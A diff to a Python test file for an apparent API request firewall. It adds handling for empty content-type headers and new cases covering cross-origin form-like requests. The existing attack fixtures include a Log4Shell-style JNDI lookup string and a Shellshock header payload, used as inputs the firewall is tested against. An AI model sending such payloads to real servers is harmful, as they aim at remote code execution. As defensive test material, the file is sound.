@@ -31,8 +31,11 @@ def caller(
     path: str = CHAT, method: str = "POST", *, address: str = "203.0.113.9", route: str = "", **fields: str
 ) -> Caller:
     extra = {name.replace("_", "-").encode(): value.encode("latin-1") for name, value in fields.items()}
+    whole = {**FIELDS, **extra}
+    if not whole[b"content-type"]:
+        del whole[b"content-type"]
     known = route or (path if path.startswith(("/v1/", "/health", "/metrics")) else "other")
-    return Caller(method, known, {**FIELDS, **extra}, address, path)
+    return Caller(method, known, whole, address, path)
 
 
 def rule_of(refusal: Refusal | None) -> str:
@@ -74,6 +77,9 @@ ATTACKS = [
     ("header_attack", caller(x_api_version="${${lower:j}ndi:ldap://h/a}")),
     ("header_attack", caller(referer="() { :; }; /bin/true")),
     ("browser_form", caller(content_type="application/x-www-form-urlencoded", origin="https://elsewhere.example")),
+    # What `fetch` sends of bytes without a type, also to an address that never agreed.
+    ("browser_form", caller(content_type="", origin="https://elsewhere.example", content_length="9")),
+    ("browser_form", caller(content_type="", origin="null", transfer_encoding="chunked")),
     ("content_types", caller(content_type="text/xml")),
     ("content_types", caller(content_type="multipart/form-data; boundary=x")),
 ]
@@ -133,7 +139,9 @@ INNOCENT_CALLERS = [
         user_agent="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36"
     ),
     caller(x_trace='{"a": {"b": 1}}', cookie="a={b}; c=${d}"),
-    caller(origin="https://app.example", method="OPTIONS"),
+    caller(content_type="", origin="https://app.example", method="OPTIONS"),
+    caller(content_type="", origin="https://app.example", method="GET", content_length="0"),
+    caller(origin="https://app.example", content_type="application/json; charset=utf-8", content_length="9"),
     caller(x_name="J\xfcrgen \x80"),
 ]
 
@@ -143,6 +151,14 @@ def test_what_clients_send_passes(innocent: Caller) -> None:
     wall, counts = firewall()
     assert wall.check_caller(innocent) is None
     assert counts == {}
+
+
+def test_who_accepts_any_content_type_still_accepts_no_forms_of_web_pages() -> None:
+    wall, _ = firewall(content_types=[])
+    assert wall.check_caller(caller(content_type="text/xml")) is None
+    assert rule_of(wall.check_caller(caller(content_type="text/xml", origin="https://x.example"))) == "browser_form"
+    wall, _ = firewall(content_types=[], default_rules=False)
+    assert wall.check_caller(caller(content_type="text/xml", origin="https://x.example")) is None
 
 
 @pytest.mark.parametrize("path", ["/health", "/health/readiness", "/metrics"])
